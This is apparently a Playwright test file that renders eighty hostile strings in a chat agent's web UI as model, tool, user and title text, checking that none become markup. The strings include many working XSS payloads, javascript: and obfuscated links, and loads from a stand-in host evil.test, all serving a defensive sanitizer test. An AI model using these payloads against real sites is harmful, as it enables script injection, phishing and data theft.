"""Eighty hostile texts in a real browser, of models, tools, people and in titles: none becomes markup."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from agent_core import Message, Session
from agent_server.testing.page import IN_A_BROWSER, wait

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Page

    from agent_server.testing import Serving

pytestmark = IN_A_BROWSER

OWN = "document.title='owned'"
SCRIPTS = [
    f"<script>{OWN}</script>",
    f"<ScRiPt>{OWN}</sCrIpT>",
    f"<script src=https://evil.test/x.js></script><script>{OWN}//",
    f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    f'<img src=x onerror="{OWN}">',
    f"<img src=x:x onerror\n=\n{OWN}>",
    f"<img/src=x/onerror={OWN}>",
    f'"><img src=x onerror={OWN}>',
    f"<body onload={OWN}>",
    f"<input autofocus onfocus={OWN}>",
    f"<details open ontoggle={OWN}><template><b>x</b></template>",
    f"<video><source onerror={OWN}></video>",
    f"<audio src=x onerror={OWN}>",
    f"<marquee onstart={OWN}>x</marquee>",
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{OWN}"></iframe>',
    f'<object data="javascript:{OWN}"></object>',
    f'<embed src="javascript:{OWN}">',
    f"<base href=https://evil.test/><script>{OWN}</script>",
    '<meta http-equiv=refresh content="0;url=https://evil.test/">',
    f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    f"<!--><img src=x onerror={OWN}>-->",
    f"<![CDATA[<script>{OWN}</script>]]>",
    f"<?xml version='1.0'?><script>{OWN}</script>",
    f"<xmp><img src=x onerror={OWN}></xmp>",
    f"<textarea><img src=x onerror={OWN}></textarea>",
]
SVG_AND_CSS = [
    f'<svg onload="{OWN}"><script>{OWN}</script></svg>',
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{OWN}"><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={OWN}>#x"/></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{OWN}</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={OWN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>",
    f'<math href="javascript:{OWN}">x</math>',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css';</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.test/p)">x</p>',
    '<div class="page with-menu shade" id=composer>x</div>',
    '<a href="https://evil.test" style="position:fixed;inset:0">x</a>',
]
LINKS = [
    f"[click](javascript:{OWN})",
    f"[click](JaVaScRiPt&colon;{OWN})",
    f"[click](java\tscript:{OWN})",
    f"[click](&#106;avascript:{OWN})",
    f"[click](%6Aavascript:{OWN})",
    f"[click](\x01javascript:{OWN})",
    f"<javascript:{OWN}>",
    "[click](data:text/html,<script>1</script>)",
    "[click](vbscript:x) <vbscript:x>",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.test/1)",
    "[a](//evil.test)",
    "[a](/v1/keys)",
    "[a](https:evil.test)",
    "[docs.python.org](https://evil.test/login)",
    "[user](https://good.test@evil.test/)",
    "[a](https://xn--pypi-4ve.test/)",
    '[a](https://x.test "\\" onmouseover=\\"document.title=1")',
    "![pixel](https://evil.test/pixel.png)",
    "[![pixel](https://evil.test/a.png)](https://evil.test)",
    f"[ref]\n\n[ref]: javascript:{OWN}",
    f'<a href="javascript:{OWN}" ping=https://evil.test>x</a>',
    '<form action="https://evil.test"><input name=a><button>Log in</button></form>',
    "<button formaction=https://evil.test>x</button>",
]
CODE_AND_TABLES = [
    f'```js onload=x"><script>{OWN}</script>\n</code></pre><script>1</script>\n```',
    f'```"><img src=x onerror={OWN}>\nx\n```',
    f"~~~html\n<script>{OWN}</script>\n~~~",
    f"`<img src=x onerror={OWN}>`",
    f"|a|\n|-|\n|<img src=x onerror={OWN}>|",
    f"- [x] <img src=x onerror={OWN}>",
    f"# <img src=x onerror={OWN}>",
    f"> <script>{OWN}</script>",
]
SIZE_AND_DIRECTION = [
    ">" * 5000 + " deep",
    "[" * 5000 + "x",
    "- " * 3000 + "x",
    "**" * 5000 + "x",
    "<" * 5000,
    "safe \u202egnp.exe\u202c name",
    "\u2066a\u2069 \u200b\ufeff b",
    "x" * 20_000,
]
HOSTILE = [*SCRIPTS, *SVG_AND_CSS, *LINKS, *CODE_AND_TABLES, *SIZE_AND_DIRECTION]
ALLOWED = {
    "div",
    "p",
    "a",
    "span",
    "code",
    "pre",
    "button",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "ul",
    "li",
    "ol",
    "em",
    "strong",
    "blockquote",
    "h1",
}
FOUND = """() => [...document.querySelectorAll('.answer .markdown *')].map((one) => [one.localName,
    [...one.attributes].map((attribute) => attribute.name).join(' '), one.getAttribute('href') ?? ''])"""
STRANGERS = """() => document.querySelectorAll(
    'main :is(script, img, iframe, object, embed, video, audio, style, link, math, meta, base),' +
    'main :is(svg:not(.drawn), [onerror], [onload], [style*=fixed])').length"""
UP = """() => { const box = document.querySelector('.transcript');
    box.scrollTop -= 500; return box.scrollTop; }"""


def read_through(page: Page, look: Callable[[], None]) -> None:
    """Look at a session from its end to its beginning."""
    page.wait_for_selector("text=last words")
    for _ in range(500):
        look()
        if page.evaluate(UP) == 0 and page.locator("text=first words").count():
            look()
            return
    raise AssertionError("the beginning was not reached")


def stored(served: Any, messages: list[Message], title: str = "hostile") -> str:
    begun = served.app.create_session()
    session = [Message("user", "first words"), *messages, Message("user", "last words")]
    served.app.save_session(Session(begun.session_id, session, begun.metadata))
    served.app.rename_session(begun.session_id, title)
    return str(begun.session_id)


def test_there_are_eighty() -> None:
    assert len(set(HOSTILE)) == 80


def test_nothing_of_a_model_becomes_markup(serve_it: Serving, open_page: Callable[..., Page]) -> None:
    served = serve_it()
    session = stored(served, [Message("assistant", payload) for payload in HOSTILE])
    page = open_page(served)
    foreign: list[str] = []
    page.on("request", lambda request: foreign.append(request.url))
    found: list[tuple[str, str, str]] = []
    shown: set[str] = set()

    def look() -> None:
        found.extend(page.evaluate(FOUND))
        shown.update(page.locator(".transcript").inner_text().splitlines())
        assert page.evaluate(STRANGERS) == 0

    page.goto(f"{served.url}/#s={session}")
    read_through(page, look)

    assert {tag for tag, _, _ in found} <= ALLOWED
    attributes = {name for _, names, _ in found for name in names.split()}
    assert attributes <= {"class", "href", "title", "target", "rel", "dir", "type", "tabindex"}
    assert all(href.startswith("https://") for _, _, href in found if href)
    assert "owned" not in page.title()
    assert [url for url in foreign if not url.startswith((served.url, "data:"))] == []
    assert f"<script>{OWN}</script>" in shown
    assert any("docs.python.org (evil.test)" in line for line in shown)
    assert any("safe [U+202E]gnp.exe" in line for line in shown)


def test_nothing_of_tools_people_and_titles_becomes_markup(
    serve_it: Serving, open_page: Callable[..., Page]
) -> None:
    served = serve_it()
    messages = []
    for number, payload in enumerate(HOSTILE):
        call = {"id": f"c{number}", "type": "function", "function": {"name": "note", "arguments": payload}}
        messages += [
            Message("user", payload),
            Message("assistant", "", metadata={"tool_calls": [call]}),
            Message("tool", payload, metadata={"tool_call_id": f"c{number}", "tool_name": "note"}),
        ]
    session = stored(served, messages, HOSTILE[0])
    page = open_page(served)
    page.goto(f"{served.url}/#s={session}")

    def look() -> None:
        # The elements as they are now: a locator would look again, and each click makes it match one fewer.
        for card in page.query_selector_all(".call:not([open]) summary")[:3]:
            if card.is_visible():
                card.evaluate("(one) => one.click()")
        assert page.evaluate(STRANGERS) == 0
        assert page.locator("nav script, nav img").count() == 0

    read_through(page, look)
    wait(lambda: page.title().startswith("<script>"))

    assert page.locator(".bar h1").inner_text().startswith("<script>")
